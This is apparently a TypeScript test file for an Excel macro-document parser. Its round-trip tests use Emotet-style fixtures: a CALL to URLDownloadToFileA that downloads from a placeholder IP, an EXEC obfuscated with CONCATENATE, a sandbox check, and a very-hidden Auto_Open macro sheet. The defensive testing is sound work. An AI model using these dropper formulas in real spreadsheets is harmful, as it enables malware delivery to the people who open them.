import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  decodeFormula,
  parseWorkbook,
  type BiffDialect,
  type BiffWorkbook,
} from '../../src/formats/biff/index.js';
import { parseCfb } from '../../src/formats/cfb/index.js';
import { readOoxml, readOoxmlPart } from '../../src/formats/ooxml/index.js';
import { parseSylk } from '../../src/formats/sylk/index.js';
import {
  decodeXml,
  parseSheetBin,
  parseSheetXml,
  parseWorkbookBin,
  parseWorkbookXml,
} from '../../src/formats/xlsb/index.js';
import { buildXls, emotetXlmSpec, type BiffWorkbookSpec } from './biff.js';
import { buildSylk, emotetSylkSpec } from './sylk.js';
import { compileFormula, parseCell } from './xlm-formula.js';
import { buildXlsb, buildXlsm } from './xlsm.js';

/** The spec as the parser sees it: sheets with their formulas and values, names with their formulas. */
function summary(spec: BiffWorkbookSpec) {
  return {
    sheets: spec.sheets.map((s) => ({
      name: s.name,
      type: s.type ?? 'worksheet',
      state: s.state ?? 'visible',
      cells: s.cells
        .map((c) => {
          const { row, col } = parseCell(c.ref);
          return { row, col, formula: c.formula, value: c.value };
        })
        .sort((a, b) => a.row - b.row || a.col - b.col),
    })),
    names: (spec.names ?? []).map((n) => ({ name: n.name, formula: n.formula })),
  };
}

function parsed(book: BiffWorkbook) {
  return {
    sheets: book.sheets.map((s) => ({
      name: s.name,
      type: s.type,
      state: s.state,
      cells: s.cells
        .map((c) => ({
          row: c.row,
          col: c.col,
          formula: c.formula,
          // A formula without a cached result reads back as the builder's placeholder 0.
          value: c.formula !== undefined && c.value === 0 ? undefined : c.value,
        }))
        .sort((a, b) => a.row - b.row || a.col - b.col),
    })),
    names: book.names.map((n) => ({ name: n.name, formula: n.formula })),
  };
}

for (const version of [8, 5] as const) {
  test(`biff builder: a BIFF${version} .xls round-trips sheets, states, cells and names`, () => {
    const spec = emotetXlmSpec(version);
    const cfb = parseCfb(buildXls(spec));
    const stream = cfb.readStream(version === 8 ? 'Workbook' : 'Book');
    assert.ok(stream, 'workbook stream');
    const book = parseWorkbook(stream);
    assert.equal(book.version, version);
    assert.deepEqual(book.anomalies, []);
    assert.deepEqual(parsed(book), summary(spec));
  });
}

const FORMULAS = [
  '1+2*3-4/5^6',
  '(1+2)*-3%',
  '"say ""hi"""&CHAR(65)',
  'TRUE=FALSE',
  '#N/A',
  'IF(A1<>B$2,,$C3)',
  'SUM($A$1:B7)',
  "Other!$B$2&'Other Sheet'!C3",
  'FORMULA(CONCATENATE("=EX","EC(1)"),A5)',
  'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://203.0.113.5/a",,0)',
  'GET.WORKSPACE(13)<770',
  'dl(1,"x")',
  'MyName&Auto_Open',
  '0.5+1E+100',
];

for (const dialect of [5, 8, 12] as const) {
  test(`xlm-formula: every construct compiles to BIFF${dialect} tokens and decodes back unchanged`, () => {
    const sheets = ['Macro1', 'Other', 'Other Sheet'];
    const names = ['MyName', 'Auto_Open', 'dl'];
    for (const text of FORMULAS) {
      const rgce = compileFormula(text, { dialect, sheets, names });
      const decoded = decodeFormula(rgce, {
        dialect: dialect as BiffDialect,
        row: 0,
        col: 0,
        sheetName: (i) => sheets[i],
        definedName: (i) => names[i - 1],
      });
      assert.deepEqual(decoded, { text }, text);
    }
  });
}

test('xlm-formula: wide characters survive BIFF8 and BIFF12 strings', () => {
  for (const dialect of [8, 12] as const) {
    const text = '"請求書 €"&"x"';
    const rgce = compileFormula(text, { dialect, sheets: [], names: [] });
    assert.equal(decodeFormula(rgce, { dialect, row: 0, col: 0 }).text, text);
  }
});

test('sylk builder: cells, names and the macro-sheet option round-trip through parseSylk', () => {
  const spec = emotetSylkSpec();
  const slk = parseSylk(buildSylk({ ...spec, isYOmitted: true }));
  assert.equal(slk.isMacroSheet, true);
  assert.deepEqual(slk.names, spec.names);
  assert.deepEqual(
    slk.cells,
    spec.cells.map((c) => ({
      row: c.y - 1,
      col: c.x - 1,
      ...(c.formula === undefined ? {} : { formula: c.formula }),
      ...(c.value === undefined ? {} : { value: c.value }),
    })),
  );
  assert.deepEqual(slk.anomalies, []);
});

test('xlsm builder: macro sheet cells, sheet states and defined names round-trip', async () => {
  const spec = emotetXlmSpec();
  const pkg = await readOoxml(buildXlsm(spec));
  assert.deepEqual(pkg.macroSheets, ['xl/macrosheets/sheet1.xml']);
  const wb = parseWorkbookXml(
    decodeXml(await readOoxmlPart(pkg, 'xl/workbook.xml', { maxBytes: 1e6 })),
    100,
  );
  assert.deepEqual(
    wb.sheets.map((s) => [s.name, s.state]),
    [
      ['Sheet1', 'visible'],
      ['Macro1', 'very-hidden'],
    ],
  );
  assert.deepEqual(wb.names, [
    { name: '_xlnm.Auto_Open', formula: 'Macro1!$A$1', isHidden: true, isBuiltin: true },
  ]);
  const xml = decodeXml(await readOoxmlPart(pkg, pkg.macroSheets[0]!, { maxBytes: 1e6 }));
  const cells = parseSheetXml(xml, 'm', { maxCells: 1000, sharedStrings: [] }, []);
  const expected = summary(spec).sheets[1]!.cells.map((c) => c.formula);
  assert.deepEqual(
    cells.sort((a, b) => a.row - b.row || a.col - b.col).map((c) => c.formula),
    expected,
  );
});

test('xlsb builder: BIFF12 workbook and macro sheet records round-trip', async () => {
  const spec = emotetXlmSpec();
  const pkg = await readOoxml(buildXlsb(spec));
  assert.deepEqual(pkg.macroSheets, ['xl/macrosheets/sheet1.bin']);
  const wb = parseWorkbookBin(
    await readOoxmlPart(pkg, 'xl/workbook.bin', { maxBytes: 1e6 }),
    'wb',
    100,
  );
  assert.deepEqual(wb.anomalies, []);
  assert.deepEqual(
    wb.sheets.map((s) => [s.name, s.state, s.relId]),
    [
      ['Sheet1', 'visible', 'rId1'],
      ['Macro1', 'very-hidden', 'rId2'],
    ],
  );
  assert.deepEqual(wb.names, [
    { name: 'Auto_Open', formula: 'Macro1!$A$1', isHidden: true, isBuiltin: true },
  ]);
  const anomalies: never[] = [];
  const bin = await readOoxmlPart(pkg, pkg.macroSheets[0]!, { maxBytes: 1e6 });
  const cells = parseSheetBin(bin, 'm', { maxCells: 1000, sharedStrings: [], env: {} }, anomalies);
  assert.deepEqual(anomalies, []);
  assert.deepEqual(
    cells.map((c) => ({ row: c.row, col: c.col, formula: c.formula })),
    summary(spec).sheets[1]!.cells.map(({ row, col, formula }) => ({ row, col, formula })),
  );
});
